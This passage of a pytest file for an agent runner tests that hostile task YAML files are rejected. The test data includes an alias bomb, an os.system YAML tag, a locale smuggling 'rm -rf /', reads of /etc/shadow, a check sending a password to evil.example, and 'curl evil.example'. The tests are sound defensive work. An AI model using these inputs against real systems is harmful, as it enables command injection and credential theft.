"""Hostile task files: each one exits 2 naming the file, the field and the line, never a traceback, a hang or
unbounded memory; uploads stay inside the task's folder (or --files-root); origins are http(s) only; relative
goto_url works; programs need --allow-programs outside the bundled tasks; the time budget cuts long typing off.
"""

from __future__ import annotations

import os
import re
import resource
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from typer.testing import CliRunner

from agent.task import InputSpec, TaskError, load_task
from cli.app import app
from tests.conftest import ROOT, TASKS, require_chromium
from tests.servers import LocalServer, QuietHandler
from tools.actions import ActionError, GotoUrl, ToolCall, parse_tool_call

GLASSBOX = str(Path(sys.executable).parent / "glassbox")

# Line numbers below refer to this text (line 1 is `name:`).
BASE = """\
name: hostile
goal: Note {note} and sign in with {password}
inputs:
  note: hello
  password: {value: pw-123, secret: true}
target: {start_url: "http://127.0.0.1:9/start"}
files:
  photo: {path: photo.png}
checks:
  - {type: text_present, text: done}
limits: {max_steps: 5, max_consecutive_errors: 2, time_budget_s: 30}
browser: {viewport: [1280, 800], device_scale_factor: 1, locale: en-US, timezone: UTC}
script:
  - {action: left_click, coordinate: [500, 500]}
  - {action: terminate, status: success}
"""
END = 16  # the line a case appends at


@dataclass
class Case:
    id: str
    text: str
    says: tuple[str, ...]  # fragments the message must hold: the field (where there is one) and the problem
    line: int | None


def edit(id: str, old: str, new: str, says: tuple[str, ...], line: int | None) -> Case:
    assert old in BASE, old
    return Case(id, BASE.replace(old, new, 1), says, line)


def append(id: str, extra: str, says: tuple[str, ...], line: int | None = END) -> Case:
    return Case(id, BASE + extra, says, line)


BOMB = "".join(
    f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]\n" if i else "l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"
    for i in range(10)
)
DESKTOP = "environment: desktop\ndesktop: {command: [sh, -c, 'touch /tmp/pwned'], ready_timeout_s: 1}\n"

CASES = [
    # -- YAML that is hostile in itself
    append("alias-bomb", BOMB, ("expands to more than",), None),
    append("recursive-alias-list", "extra: &a [1, *a]\n", ("recursive",)),
    append("recursive-alias-map", "extra: &m {k: {j: *m}}\n", ("recursive",)),
    append("deep-flow-list", "deep: " + "[" * 5000 + "]" * 5000 + "\n", ("nested more than",)),
    append("deep-flow-map", "deep: " + "{a: " * 3000 + "1" + "}" * 3000 + "\n", ("nested more than",)),
    append("deep-block", "deep:\n" + "".join(" " * i + "- \n" for i in range(1, 200)), ("nested more than",), None),
    append("too-many-aliases", "x: &x 1\nmany: [" + ", ".join(["*x"] * 400) + "]\n", ("aliases",), 17),
    edit(
        "duplicate-secret-key",
        "  password: {value: pw-123, secret: true}\n",
        "  password: {value: pw-123, secret: true}\n  password: pw-123\n",
        ("inputs.password", "duplicate key"),
        6,
    ),
    append("duplicate-top-key", "name: again\n", ("name", "duplicate key 'name' (first on line 1)")),
    edit("huge-integer", "max_steps: 5", "max_steps: 1" + "0" * 5000, ("cannot be read", "digits"), None),
    edit("nul-in-file-path", "{path: photo.png}", '{path: "photo\\0.png"}', ("files.photo.path", "NUL"), 8),
    edit("nul-in-goal", "goal: Note {note} and sign in with {password}", 'goal: "Note \\0 {note}"', ("goal", "NUL"), 2),
    edit(
        "python-tag",
        "goal: Note {note} and sign in with {password}",
        'goal: !!python/object/apply:os.system ["id"]',
        ("not valid YAML", "constructor"),
        2,
    ),
    Case("not-a-mapping", "- a\n- b\n", ("must be a mapping",), 1),
    Case("empty-file", "", ("must be a mapping",), 1),
    append("two-documents", "---\nname: other\n", ("single document",), None),
    edit("syntax-error", "target: {start_url", "target: {start_url: [", ("not valid YAML",), None),
    # -- values out of range
    edit("viewport-zero", "viewport: [1280, 800]", "viewport: [0, 0]", ("browser.viewport[0]",), 12),
    edit("viewport-huge", "viewport: [1280, 800]", "viewport: [100000, 800]", ("browser.viewport[0]",), 12),
    edit("viewport-negative", "viewport: [1280, 800]", "viewport: [1280, -5]", ("browser.viewport[1]",), 12),
    edit("viewport-three", "viewport: [1280, 800]", "viewport: [1280, 800, 3]", ("browser.viewport",), 12),
    edit("scale-zero", "device_scale_factor: 1", "device_scale_factor: 0", ("browser.device_scale_factor",), 12),
    edit("scale-huge", "device_scale_factor: 1", "device_scale_factor: 1000", ("browser.device_scale_factor",), 12),
    edit("scale-nan", "device_scale_factor: 1", "device_scale_factor: .nan", ("browser.device_scale_factor",), 12),
    edit(
        "screen-too-large",
        "viewport: [1280, 800], device_scale_factor: 1",
        "viewport: [4096, 4096], device_scale_factor: 4",
        ("browser", "8192 pixels"),
        12,
    ),
    edit("locale-injection", "locale: en-US", "locale: 'en; rm -rf /'", ("browser.locale",), 12),
    edit("locale-empty", "locale: en-US", "locale: ''", ("browser.locale",), 12),
    edit("timezone-unknown", "timezone: UTC", "timezone: Mars/Olympus_Mons", ("browser.timezone", "unknown time zone"), 12),
    edit("timezone-path", "timezone: UTC", "timezone: ../../etc/passwd", ("browser.timezone",), 12),
    edit(
        "settle-timeout-huge",
        "timezone: UTC}",
        "timezone: UTC, settle_timeout_ms: 1000000000000}",
        ("browser.settle_timeout_ms",),
        12,
    ),
    edit("action-timeout-zero", "timezone: UTC}", "timezone: UTC, action_timeout_ms: 0}", ("browser.action_timeout_ms",), 12),
    edit("budget-infinite", "time_budget_s: 30", "time_budget_s: .inf", ("limits.time_budget_s",), 11),
    edit("budget-zero", "time_budget_s: 30", "time_budget_s: 0", ("limits.time_budget_s",), 11),
    edit("budget-year", "time_budget_s: 30", "time_budget_s: 31536000", ("limits.time_budget_s",), 11),
    edit("max-steps-huge", "max_steps: 5", "max_steps: 100000000", ("limits.max_steps",), 11),
    edit(
        "max-errors-huge",
        "max_consecutive_errors: 2",
        "max_consecutive_errors: 1000000000",
        ("limits.max_consecutive_errors",),
        11,
    ),
    edit(
        "layout-seed-huge",
        'target: {start_url: "http://127.0.0.1:9/start"}',
        "target: {site: shop, layout_seed: 1180591620717411303424}",
        ("target.layout_seed",),
        6,
    ),
    edit(
        "layout-seed-negative",
        'target: {start_url: "http://127.0.0.1:9/start"}',
        "target: {site: shop, layout_seed: -1}",
        ("target.layout_seed",),
        6,
    ),
    edit(
        "site-path-escapes",
        'target: {start_url: "http://127.0.0.1:9/start"}',
        'target: {site: shop, path: "@evil.example/"}',
        ("target.path",),
        6,
    ),
    append("policy-timeout-infinite", "policy: {timeout_s: .inf}\n", ("policy.timeout_s",)),
    append("policy-temperature-huge", "policy: {temperature: 1000000000}\n", ("policy.temperature",)),
    append("policy-seed-huge", "policy: {seed: 36893488147419103232}\n", ("policy.seed",)),
    append("policy-seed-negative", "policy: {seed: -1}\n", ("policy.seed",)),
    append("policy-max-tokens-huge", "policy: {max_new_tokens: 10000000000}\n", ("policy.max_new_tokens",)),
    edit("start-url-javascript", '"http://127.0.0.1:9/start"', '"javascript:alert(1)"', ("target.start_url",), 6),
    edit(
        "start-url-userinfo",
        '"http://127.0.0.1:9/start"',
        '"http://user:pw@127.0.0.1:9/start"',
        ("target.start_url", "user name"),
        6,
    ),
    edit("start-url-bad-port", '"http://127.0.0.1:9/start"', '"http://127.0.0.1:99999/start"', ("target.start_url", "port"), 6),
    # -- inputs
    edit(
        "unset-env-secret",
        "{value: pw-123, secret: true}",
        "{env: GLASSBOX_HOSTILE_UNSET_VAR, secret: true}",
        ("inputs.password.env", "GLASSBOX_HOSTILE_UNSET_VAR is not set"),
        5,
    ),
    # -- files a task may upload
    edit(
        "upload-etc-shadow",
        "{path: photo.png}",
        "{path: /etc/shadow}",
        ("files.photo.path", "outside the task's folder", "--files-root"),
        8,
    ),
    edit("upload-etc-passwd", "{path: photo.png}", "{path: /etc/passwd}", ("files.photo.path", "outside"), 8),
    edit("upload-proc-environ", "{path: photo.png}", "{path: /proc/self/environ}", ("files.photo.path", "outside"), 8),
    edit("upload-dotdot", "{path: photo.png}", "{path: ../outside.png}", ("files.photo.path", "outside"), 8),
    edit("upload-symlink-out", "{path: photo.png}", "{path: link-out.png}", ("files.photo.path", "resolves to", "outside"), 8),
    edit("upload-symlink-dev-zero", "{path: photo.png}", "{path: zero.png}", ("files.photo.path", "outside"), 8),
    edit("upload-dev-zero", "{path: photo.png}", "{path: /dev/zero}", ("files.photo.path", "outside"), 8),
    edit("upload-folder", "{path: photo.png}", "{path: .}", ("files.photo.path", "not a regular file"), 8),
    edit("upload-fifo", "{path: photo.png}", "{path: pipe.png}", ("files.photo.path", "not a regular file"), 8),
    edit("upload-missing", "{path: photo.png}", "{path: nope.png}", ("files.photo.path", "no such file"), 8),
    # -- origins and URLs
    append("origin-javascript", "allowed_origins: ['javascript:alert(1)']\n", ("allowed_origins[0]", "http(s) origin")),
    append("origin-data", "allowed_origins: ['data:text/html,hi']\n", ("allowed_origins[0]",)),
    append("origin-file", "allowed_origins: ['file:///etc']\n", ("allowed_origins[0]",)),
    append("origin-ftp", "allowed_origins: ['ftp://files.example']\n", ("allowed_origins[0]",)),
    append("origin-with-path", "allowed_origins: ['https://ok.example/admin']\n", ("allowed_origins[0]", "path")),
    append("origin-userinfo", "allowed_origins: ['https://u:p@ok.example']\n", ("allowed_origins[0]", "user name")),
    append("origin-bad-port", "allowed_origins: ['https://ok.example:70000']\n", ("allowed_origins[0]", "port")),
    append("origin-null", "allowed_origins: ['https://ok.example', 'null']\n", ("allowed_origins[1]",)),
    edit(
        "goto-javascript",
        "  - {action: terminate, status: success}",
        "  - {action: goto_url, url: 'javascript:alert(1)'}",
        ("script[1]", "javascript"),
        15,
    ),
    edit(
        "goto-protocol-relative",
        "  - {action: terminate, status: success}",
        "  - {action: goto_url, url: '//evil.example/x'}",
        ("script[1].url", "outside allowed_origins"),
        15,
    ),
    edit(
        "check-foreign-host",
        "{type: text_present, text: done}",
        "{type: http_json, url: 'https://evil.example/?p={password}', match: {a: 1}}",
        ("checks[0].url",),
        10,
    ),
    edit(
        "check-host-from-input",
        "{type: text_present, text: done}",
        "{type: http_json, url: '{note}/api', match: {a: 1}}",
        ("checks[0].url",),
        10,
    ),
    # -- programs from elsewhere
    edit(
        "desktop-program",
        'target: {start_url: "http://127.0.0.1:9/start"}\n',
        DESKTOP,
        ("desktop.command", "starts a program", "touch /tmp/pwned", "--allow-programs"),
        None,
    ),
    Case(
        "command-check",
        BASE.replace('target: {start_url: "http://127.0.0.1:9/start"}\n', DESKTOP).replace(
            "{type: text_present, text: done}", "{type: command, argv: [curl, evil.example]}"
        ),
        ("checks[0].argv", "starts a program (curl evil.example)", "--allow-programs"),
        11,
    ),
    # -- a secret named where the page would be handed it (it only ever gets <secret>name</secret>)
    edit(
        "secret-in-js-check",
        "  - {type: text_present, text: done}",
        "  - {type: js, expression: \"document.title === '{password}'\"}",
        ("checks[0].expression: {password} is a secret", "text_present, http_json or file_json"),
        10,
    ),
    edit(
        "secret-in-script-target",
        "  - {action: left_click, coordinate: [500, 500]}",
        "  - {action: left_click, target: {text: 'You typed {password}'}}",
        ("script[0].target.text: {password} is a secret", "by its label or a selector"),
        14,
    ),
    edit(
        "unknown-key-name",
        "  - {action: left_click, coordinate: [500, 500]}",
        "  - {action: key, keys: [contrl, a]}",
        ("script[0].keys: unknown key name 'contrl'",),
        14,
    ),
    # -- the indentation mistakes people make most, in words a task's author knows
    append("over-indented-key", "  extra: 1\n", ("not valid YAML", "the indentation does not line up here"), END),
    append("tab-indent", "limits2:\n\tmax_steps: 3\n", ("not valid YAML", "a tab: indent with spaces"), END + 1),
]


@pytest.fixture
def task_dir(tmp_path: Path) -> Path:
    """A task folder with a real photo, a symlink out of it, one to /dev/zero, and a FIFO; a file beside it."""
    folder = tmp_path / "suite"
    folder.mkdir()
    (folder / "photo.png").write_bytes((TASKS / "fixtures" / "desk_lamp.png").read_bytes())
    (tmp_path / "outside.png").write_bytes(b"not yours")
    (folder / "link-out.png").symlink_to("/etc/hostname" if Path("/etc/hostname").exists() else "/etc/passwd")
    (folder / "zero.png").symlink_to("/dev/zero")
    os.mkfifo(folder / "pipe.png")
    return folder


def run_cli(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(app, list(args))
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    return result.exit_code, result.output  # stdout and stderr, as a terminal shows them


def test_the_base_task_is_valid(task_dir):
    path = task_dir / "task.yaml"
    path.write_text(BASE, encoding="utf-8")
    task = load_task(path)
    assert task.file_paths() == {"photo": (task_dir / "photo.png").resolve()}


def test_at_least_forty_hostile_cases():
    assert len(CASES) >= 40 and len({c.id for c in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_task_file_exits_2_naming_file_field_and_line(task_dir, case, monkeypatch):
    monkeypatch.delenv("GLASSBOX_HOSTILE_UNSET_VAR", raising=False)
    path = task_dir / "task.yaml"
    path.write_text(case.text, encoding="utf-8")
    code, output = run_cli("run", str(path), "--runs-dir", str(task_dir / "runs"))
    flat = " ".join(output.split())
    assert code == 2, output
    assert "Traceback" not in output
    assert f"error: {path}:" in flat
    for fragment in case.says:
        assert fragment in flat, f"{fragment!r} not in {flat!r}"
    if case.line is not None:
        assert f"line {case.line}:" in flat
    else:
        assert re.search(r"line \d+:", flat) or "cannot be read" in flat
    assert not (task_dir / "runs").exists()  # nothing started, nothing recorded
    assert not Path("/tmp/pwned").exists() or case.id != "desktop-program"


def test_duplicate_password_key_never_drops_secret_through_the_real_cli(task_dir):
    """The installed `glassbox` entry point, as a user runs it."""
    path = task_dir / "task.yaml"
    path.write_text(
        BASE.replace(
            "  password: {value: pw-123, secret: true}\n", "  password: {value: pw-123, secret: true}\n  password: pw-123\n"
        ),
        encoding="utf-8",
    )
    result = subprocess.run(
        [GLASSBOX, "run", str(path), "--runs-dir", str(task_dir / "runs")], capture_output=True, text=True, timeout=60
    )
    assert result.returncode == 2, result.stderr
    assert f"{path}: line 6: inputs.password: duplicate key 'password' (first on line 5)" in result.stderr
    assert "Traceback" not in result.stderr


def glassbox_limited(*args: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    """The real CLI with its address space capped at 1 GiB: a blow-up is a MemoryError, not a swapping machine."""

    def cap() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))

    return subprocess.run([GLASSBOX, *args], capture_output=True, text=True, timeout=timeout, preexec_fn=cap)


def test_fifo_as_the_task_file_returns_promptly(tmp_path):
    fifo = tmp_path / "task.yaml"
    os.mkfifo(fifo)  # nobody ever writes to it: opening it for reading would block forever
    try:
        result = glassbox_limited("run", str(fifo), "--runs-dir", str(tmp_path / "runs"))
    except subprocess.TimeoutExpired:
        pytest.fail("glassbox run hung on a FIFO")
    assert result.returncode == 2
    assert f"{fifo}: not a regular file (a FIFO (named pipe))" in result.stderr


def test_dev_zero_as_the_task_file_returns_promptly(tmp_path):
    try:
        result = glassbox_limited("run", "/dev/zero", "--runs-dir", str(tmp_path / "runs"))
    except subprocess.TimeoutExpired:
        pytest.fail("glassbox run hung reading /dev/zero")
    assert result.returncode == 2
    assert "/dev/zero: not a regular file (a device)" in result.stderr


def test_a_folder_and_a_large_file_and_bad_bytes_are_refused(tmp_path):
    assert run_cli("run", str(tmp_path))[0] == 2
    assert "not a regular file (a directory)" in run_cli("run", str(tmp_path))[1]
    big = tmp_path / "big.yaml"
    big.write_text("name: x\ngoal: " + "a" * 300_000 + "\n", encoding="utf-8")
    code, output = run_cli("run", str(big))
    assert code == 2 and "task files may be at most 262,144 bytes" in output
    latin = tmp_path / "latin.yaml"
    latin.write_bytes(b"name: x\ngoal: caf\xe9\n")
    code, output = run_cli("run", str(latin))
    assert code == 2 and "line 2: not UTF-8 text (byte 0xe9)" in " ".join(output.split())


def test_alias_bomb_is_refused_within_bounded_memory(tmp_path):
    path = tmp_path / "bomb.yaml"
    path.write_text(BASE + BOMB + "also: [" + ", ".join(["*l9"] * 9) + "]\n", encoding="utf-8")
    result = glassbox_limited("run", str(path), "--runs-dir", str(tmp_path / "runs"))
    assert result.returncode == 2, result.stderr[-2000:]
    assert "MemoryError" not in result.stderr and "Traceback" not in result.stderr
    assert "expands to more than 100,000 values" in result.stderr


def test_valid_yaml_features_still_load(task_dir, monkeypatch):
    """Merge keys are not duplicates, an environment secret loads when set, origins are normalised."""
    path = task_dir / "task.yaml"
    path.write_text(
        BASE.replace("{value: pw-123, secret: true}", "{env: GLASSBOX_HOSTILE_PW, secret: true}")
        + "allowed_origins: ['HTTPS://Ok.Example/', 'http://[::1]:8080']\n",
        encoding="utf-8",
    )
    monkeypatch.setenv("GLASSBOX_HOSTILE_PW", "from-env")
    task = load_task(path)
    assert task.secret_values() == {"password": "from-env"}
    assert task.allowed_origins == ["https://ok.example", "http://[::1]:8080"]
    merged = task_dir / "merged.yaml"
    merged.write_text(
        textwrap.dedent("""\
        name: m
        goal: g
        target: {start_url: "http://127.0.0.1:9/"}
        limits: {max_steps: 4, time_budget_s: 20}
        policy: {name: script}
        script:
          - &click {action: left_click, coordinate: [1, 2]}
          - *click
          - {<<: *click, coordinate: [3, 4]}
        """),
        encoding="utf-8",
    )
    task = load_task(merged)
    assert [s.arguments()["coordinate"] for s in task.script or []] == [[1, 2], [1, 2], [3, 4]]


def test_relative_goto_url_loads_and_resolves_against_the_target(task_dir):
    path = task_dir / "task.yaml"
    path.write_text(
        BASE.replace(
            "  - {action: terminate, status: success}",
            "  - {action: goto_url, url: 'other?x=1'}\n  - {action: goto_url, url: /start}",
        ),
        encoding="utf-8",
    )
    task = load_task(path)
    assert [s.arguments().get("url") for s in task.script or []] == [None, "other?x=1", "/start"]
    for bad in ("javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "http:/no-host", "http://h:99999/"):
        with pytest.raises(ActionError):
            parse_tool_call(ToolCall(name="goto_url", arguments={"url": bad}))
    assert GotoUrl(action="goto_url", url="../up").url == "../up"


def test_upload_from_outside_is_refused_and_from_files_root_accepted(tmp_path):
    elsewhere = tmp_path / "shared-assets"
    elsewhere.mkdir()
    (elsewhere / "photo.png").write_bytes((TASKS / "fixtures" / "desk_lamp.png").read_bytes())
    suite = tmp_path / "suite"
    suite.mkdir()
    path = suite / "task.yaml"
    path.write_text(BASE.replace("{path: photo.png}", f"{{path: {elsewhere / 'photo.png'}}}"), encoding="utf-8")
    with pytest.raises(TaskError, match="outside the task's folder"):
        load_task(path)
    task = load_task(path, files_root=elsewhere)
    assert task.file_paths() == {"photo": (elsewhere / "photo.png").resolve()}
    # --files-root widens the roots by one folder, not to everything.
    escape = suite / "escape.yaml"
    escape.write_text(BASE.replace("{path: photo.png}", "{path: /etc/passwd}"), encoding="utf-8")
    code, output = run_cli("run", str(escape), "--files-root", str(elsewhere))
    assert code == 2 and "files.photo.path" in output and "outside" in output
    code, output = run_cli("run", str(path), "--files-root", str(tmp_path / "missing"))
    assert code == 2 and "--files-root" in output and "not a folder" in output


def test_programs_need_the_flag_outside_the_bundled_tasks(tmp_path):
    assert load_task(TASKS / "desktop_form.yaml").programs()  # bundled: allowed without a flag
    copy = tmp_path / "desktop_form.yaml"
    copy.write_text((TASKS / "desktop_form.yaml").read_text(encoding="utf-8"), encoding="utf-8")
    with pytest.raises(TaskError, match="--allow-programs") as info:
        load_task(copy)
    assert f"{copy}: line 13: desktop.command: this task starts a program" in str(info.value)
    assert "-m sites.desktop_form.app '{workdir}/registration.json'" in str(info.value)
    assert load_task(copy, allow_programs=True).programs()[0][0] == ("desktop", "command")


# -- real Chromium ------------------------------------------------------------------------------------------

PAGE = b"""<!doctype html><title>start</title>
<textarea id="t" rows="4" cols="60"></textarea>
<input id="f" type="file">
<p id="done">start page</p>"""
OTHER = b"<!doctype html><title>other</title><p>other page</p>"
BIG = b"[" + b",".join([b'{"name": "padding"}'] * 4000) + b"]"  # 84 KB of JSON


class _Pages(QuietHandler):
    def do_GET(self) -> None:  # noqa: N802
        body = OTHER if self.path.startswith("/other") else BIG if self.path.startswith("/big") else PAGE
        self.reply(200, body, "text/html; charset=utf-8")


@pytest.fixture
def pages() -> Iterator[str]:
    with LocalServer(_Pages) as server:
        yield server.url


def test_files_root_upload_runs_end_to_end(tmp_path, pages):
    require_chromium()
    assets = tmp_path / "assets"
    assets.mkdir()
    (assets / "photo.png").write_bytes((TASKS / "fixtures" / "desk_lamp.png").read_bytes())
    suite = tmp_path / "suite"
    suite.mkdir()
    path = suite / "upload.yaml"
    path.write_text(
        textwrap.dedent(f"""\
        name: upload-from-root
        goal: Attach the photo
        target: {{start_url: "{pages}/start"}}
        files:
          photo: {{path: {assets / "photo.png"}}}
        checks:
          - {{type: js, expression: "document.querySelector('#f').files[0].name === 'photo.png'"}}
        script:
          - {{action: upload_file, file: photo, target: {{selector: "#f"}}}}
          - {{action: terminate, status: success}}
        """),
        encoding="utf-8",
    )
    code, output = run_cli("run", str(path), "--runs-dir", str(tmp_path / "runs"))
    assert code == 2 and "outside the task's folder" in output
    code, output = run_cli("run", str(path), "--runs-dir", str(tmp_path / "runs"), "--files-root", str(assets))
    assert code == 0, output


@pytest.mark.desktop
def test_program_is_announced_before_it_runs_and_needs_the_flag(tmp_path):
    from tests.tools.test_desktop import require_xvfb

    require_xvfb()
    marker = tmp_path / "ran"
    path = tmp_path / "program.yaml"
    path.write_text(
        textwrap.dedent(f"""\
        name: starts-a-program
        goal: Nothing
        environment: desktop
        desktop:
          command: ["{{python}}", -c, "open('{marker}', 'w'); import time; time.sleep(60)"]
        checks:
          - {{type: command, argv: ["{{python}}", -c, "import os, sys; sys.exit(not os.path.exists('{marker}'))"]}}
        script:
          - {{action: terminate, status: success}}
        """),
        encoding="utf-8",
    )
    refused = subprocess.run(
        [GLASSBOX, "run", str(path), "--runs-dir", str(tmp_path / "runs")], capture_output=True, text=True, timeout=120
    )
    assert refused.returncode == 2 and "--allow-programs" in refused.stderr
    assert not marker.exists() and not (tmp_path / "runs").exists()
    allowed = subprocess.run(
        [GLASSBOX, "run", str(path), "--runs-dir", str(tmp_path / "runs"), "--allow-programs"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert allowed.returncode == 0, allowed.stdout + allowed.stderr
    assert marker.exists()
    said = " ".join(allowed.stderr.split())
    python = Path(sys.executable).parent / "python"  # {python} is the interpreter glassbox runs in
    assert f"this task starts a program: {python} -c" in said or f"this task starts a program: {sys.executable}" in said
    assert str(marker) in said
    assert said.count("this task starts a program:") == 2  # the app, then the command check


def test_goto_url_relative_resolves_against_the_target_and_keeps_origins(pages):
    require_chromium()
    from tools.browser import BrowserExecutor, BrowserSettings

    with BrowserExecutor(BrowserSettings(), allowed_origins=[pages]) as browser:
        browser.goto(f"{pages}/start")
        ok = browser.act(parse_tool_call(ToolCall(name="goto_url", arguments={"url": "other?x=1"})))
        assert ok.status == "ok", ok.error
        assert browser.page.url == f"{pages}/other?x=1"
        # Relative to the target (/start), not to the page the agent is on.
        ok = browser.act(parse_tool_call(ToolCall(name="goto_url", arguments={"url": "/start"})))
        assert ok.status == "ok" and browser.page.url == f"{pages}/start"
        out = browser.act(parse_tool_call(ToolCall(name="goto_url", arguments={"url": "//evil.example/x"})))
        assert out.status == "error" and "'http://evil.example/x' is outside the allowed origins" in (out.error or "")
        assert browser.page.url == f"{pages}/start"


def test_one_megabyte_of_typing_is_cut_off_by_the_time_budget(tmp_path, pages):
    require_chromium()
    from agent.loop import run_task
    from tracer import RunStatus, read_steps

    path = tmp_path / "typing.yaml"
    path.write_text(
        textwrap.dedent(f"""\
        name: long-typing
        goal: Type the text
        inputs:
          text: placeholder
        target: {{start_url: "{pages}/start"}}
        checks:
          - {{type: js, expression: "document.querySelector('#t').value.length === 1000000"}}
        limits: {{max_steps: 5, time_budget_s: 5}}
        script:
          - {{action: left_click, target: {{selector: "#t"}}}}
          - {{action: type, text: "{{text}}"}}
          - {{action: terminate, status: success}}
        """),
        encoding="utf-8",
    )
    task = load_task(path)
    task.inputs["text"] = InputSpec(value="a" * 1_000_000)  # a file may not hold 1 MB; the API may
    result = run_task(task, runs_dir=tmp_path / "runs")
    assert result.status is RunStatus.failed
    # 5 s: the first step (the page, a click) fits on a loaded 2-core machine; 1 MB of typing does not.
    assert result.end_reason == "time budget spent (5 s)"
    assert [c.passed for c in result.checks] == [False]
    recorded = read_steps(result.run_dir)
    assert len(recorded) >= 2, [(x.index, x.action, x.outcome, x.error, x.timings) for x in recorded]
    typing = recorded[1]
    assert typing.action is not None and typing.action.action == "type"
    assert typing.outcome == "error" and typing.error_kind == "executor"
    match = re.fullmatch(
        r"cut off: the run's time budget ran out while typing \(([\d,]+) of 1,000,000 characters "
        r"typed\)",
        typing.error or "",
    )
    assert match, typing.error
    assert 0 < int(match.group(1).replace(",", "")) < 1_000_000


def test_desktop_typing_stops_at_the_deadline_without_typing(monkeypatch):
    """The desktop executor looks at the deadline before each chunk (no X display needed to see it stop)."""
    import time

    from tools.desktop import DesktopExecutor

    calls: list[list[str]] = []
    monkeypatch.setattr(subprocess, "run", lambda argv, **kw: calls.append(argv))
    desktop = DesktopExecutor()
    desktop._deadline = time.monotonic() - 1
    with pytest.raises(ActionError, match=r"cut off: .* \(0 of 100,000 characters typed\)"):
        desktop._type("x" * 100_000)
    assert calls == []


def test_bundled_tasks_still_load():
    for name in ("publish_product.yaml", "publish_product_zh.yaml", "desktop_form.yaml"):
        assert load_task(ROOT / "tasks" / name).name


def test_an_env_input_is_secret_unless_it_says_otherwise(tmp_path, monkeypatch):
    # A task naming OPENAI_API_KEY as a plain input would otherwise put the key into the goal, prompts and records.
    monkeypatch.setenv("GLASSBOX_TEST_KEY", "sk-live-0123456789abcdef")
    monkeypatch.setenv("GLASSBOX_TEST_USER", "alice")
    (tmp_path / "t.yaml").write_text(
        textwrap.dedent("""\
        name: env-inputs
        goal: sign in as {user} with key {key}
        inputs:
          key: {env: GLASSBOX_TEST_KEY}
          user: {env: GLASSBOX_TEST_USER, secret: false}
        target: {start_url: "http://127.0.0.1:1/"}
        """)
    )
    task = load_task(tmp_path / "t.yaml")
    assert task.secret_values() == {"key": "sk-live-0123456789abcdef"}
    assert task.goal_text() == "sign in as alice with key <secret>key</secret>"


# -- what a task file may take from the environment and where it may send screenshots ----------------------------


def test_a_task_file_reads_only_glassbox_variables(tmp_path, monkeypatch):
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "aws-secret-0123456789")
    path = tmp_path / "t.yaml"
    path.write_text(BASE.replace("{value: pw-123, secret: true}", "{env: AWS_SECRET_ACCESS_KEY}"), encoding="utf-8")
    with pytest.raises(TaskError) as info:
        load_task(path)
    message = str(info.value)
    assert "line 5" in message and "inputs.password.env" in message and "GLASSBOX_AWS_SECRET_ACCESS_KEY" in message
    assert "aws-secret" not in message
    path.write_text(BASE + "policy: {api_key_env: AWS_SECRET_ACCESS_KEY}\n", encoding="utf-8")
    with pytest.raises(TaskError, match=r"policy.api_key_env.*GLASSBOX_\.\.\. or OPENAI_API_KEY"):
        load_task(path)


@pytest.mark.parametrize(
    ("url", "listed", "ok"),
    [
        ("http://127.0.0.1:8000/v1", "", True),
        ("http://localhost:8000/v1", "", True),
        ("http://[::1]:8000/v1", "", True),
        ("https://models.example/v1", "", False),
        ("https://models.example/v1", "https://other.example, https://models.example", True),
        ("http://models.example/v1", "https://models.example", False),  # another scheme is another origin
        ("https://127.0.0.1.evil.example/v1", "", False),
    ],
)
def test_a_task_file_sends_screenshots_only_to_a_server_the_user_trusts(tmp_path, monkeypatch, url, listed, ok):
    monkeypatch.setenv("GLASSBOX_MODEL_ORIGINS", listed)
    (tmp_path / "photo.png").write_bytes(b"")
    path = tmp_path / "t.yaml"
    path.write_text(BASE + f"policy: {{name: openai, model: m, base_url: '{url}'}}\n", encoding="utf-8")
    if ok:
        assert load_task(path).policy.base_url == url
        return
    with pytest.raises(TaskError) as info:
        load_task(path)
    assert "policy.base_url" in str(info.value) and "export GLASSBOX_MODEL_ORIGINS=" in str(info.value)


def test_the_users_own_base_url_is_not_second_guessed(tmp_path, monkeypatch):
    from agent.policies import with_policy_overrides

    monkeypatch.delenv("GLASSBOX_MODEL_ORIGINS", raising=False)
    (tmp_path / "photo.png").write_bytes(b"")
    path = tmp_path / "t.yaml"
    path.write_text(BASE, encoding="utf-8")
    task = with_policy_overrides(load_task(path), {"name": "openai", "base_url": "https://models.example/v1", "model": "m"})
    assert task.policy.base_url == "https://models.example/v1"  # --base-url on the command line


def test_an_http_json_check_reads_a_bounded_answer(tmp_path, pages, monkeypatch):
    import agent.checks

    path = tmp_path / "big.yaml"
    path.write_text(
        f"name: big\ngoal: g\ntarget: {{start_url: '{pages}/start'}}\n"
        "checks: [{type: http_json, url: /big, match: {name: padding}}]\nscript: [{action: terminate, status: success}]\n",
        encoding="utf-8",
    )
    task = load_task(path)
    [whole] = agent.checks.run_checks(task, None, pages)
    assert whole.passed  # 84 KB is well inside the 16 MB a check reads
    monkeypatch.setattr(agent.checks, "HTTP_CHECK_MAX_BYTES", 4096)
    [cut] = agent.checks.run_checks(task, None, pages)
    assert not cut.passed and "answered more than" in cut.detail and "an http_json check reads at most" in cut.detail


def _closed_port() -> int:
    import socket

    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])  # closed again on leaving: nothing listens there


class _Hangs(QuietHandler):
    def do_GET(self) -> None:  # noqa: N802
        time.sleep(3)  # longer than the test's limit; the server's thread ends by itself


@pytest.mark.browser
def test_a_start_page_that_cannot_be_opened_is_one_clear_line_exit_1(tmp_path):
    """Nothing listening, or a port Chromium refuses: the real CLI says which page and why, no traceback."""
    require_chromium()
    for url, reason in (
        (f"http://127.0.0.1:{_closed_port()}/start", "net::ERR_CONNECTION_REFUSED"),
        ("http://127.0.0.1:9/", "net::ERR_UNSAFE_PORT"),
    ):
        path = tmp_path / "t.yaml"
        path.write_text(
